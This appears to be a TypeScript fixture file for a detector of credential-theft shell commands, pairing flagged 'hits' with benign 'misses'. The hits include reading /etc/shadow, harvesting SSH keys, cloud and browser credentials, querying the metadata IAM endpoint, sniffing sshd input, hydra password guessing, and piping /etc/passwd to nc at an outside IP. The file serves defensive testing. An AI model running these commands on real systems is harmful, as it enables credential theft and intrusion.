import type { Examples } from './command-examples.js';

export const CREDENTIALS: Examples = {
  password_hashes_read: {
    hits: ['cat /etc/shadow', 'cp /etc/shadow- /tmp'],
    misses: ['ls -l /etc/shadow', 'cat /etc/hosts'],
  },
  accounts_copied: {
    hits: ['cat /etc/passwd > /tmp/p', 'cat /etc/passwd | nc 203.0.113.66 80'],
    misses: ['cat /etc/passwd', 'grep root /etc/passwd'],
  },
  sudo_rules_read: { hits: ['cat /etc/sudoers'], misses: ['visudo'] },
  private_keys_collected: {
    hits: ['find / -name id_rsa 2>/dev/null', 'cat ~/.ssh/id_ed25519'],
    misses: ['cat ~/.ssh/id_ed25519.pub', 'ssh -i ~/.ssh/id_rsa host'],
  },
  cloud_credentials_collected: {
    hits: ['cat ~/.aws/credentials', 'find / -path "*/.kube/config"'],
    misses: ['aws s3 ls', 'kubectl config view'],
  },
  instance_role_read: {
    hits: ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-frontend'],
    misses: ['curl http://169.254.169.254/latest/meta-data/instance-id'],
  },
  process_memory_read: {
    hits: ['dd if=/proc/4242/mem of=/tmp/m', 'strings /proc/*/environ'],
    misses: ['cat /proc/meminfo', 'cat /proc/cpuinfo'],
  },
  history_searched: {
    hits: ['cat ~/.bash_history | grep pass', 'find / -name .bash_history'],
    misses: ['history | grep ssh'],
  },
  secrets_searched: {
    hits: ['grep -ri password /etc', 'find / -name "*.kdbx"'],
    misses: ['grep -r TODO src', 'find . -name "*.pem"'],
  },
  browser_data_collected: {
    hits: ['cp ~/.mozilla/firefox/x/logins.json /tmp'],
    misses: ['firefox https://example.org'],
  },
  mail_taken: { hits: ['tar czf m.tgz /var/spool/mail/'], misses: ['mail -s hi root'] },
  input_captured: {
    hits: ["PROMPT_COMMAND='history -a >(tee -a /tmp/h)'", 'strace -p $(pgrep sshd) -e read'],
    misses: ['strace ls'],
  },
  traffic_captured: { hits: ['tcpdump -i eth0 -w /tmp/c.pcap'], misses: ['which tcpdump'] },
  password_on_command_line: { hits: ['sshpass -p x ssh root@10.20.3.5'], misses: ['ssh root@10.20.3.5'] },
  password_guessing: {
    hits: ['hydra -l root -P w.txt ssh://10.20.3.5', 'john hashes'],
    misses: ['ls /home/john', 'su john'],
  },
  screen_captured: { hits: ['import -window root /tmp/s.png'], misses: ['import os'] },
  clipboard_read: { hits: ['xclip -o -selection clipboard'], misses: ['cat f | xclip -selection clipboard'] },
  domain_asked: {
    hits: ['ldapsearch -x -D u -w p "(objectClass=user)"', 'secretsdump.py x'],
    misses: ['id user@example.org'],
  },
};
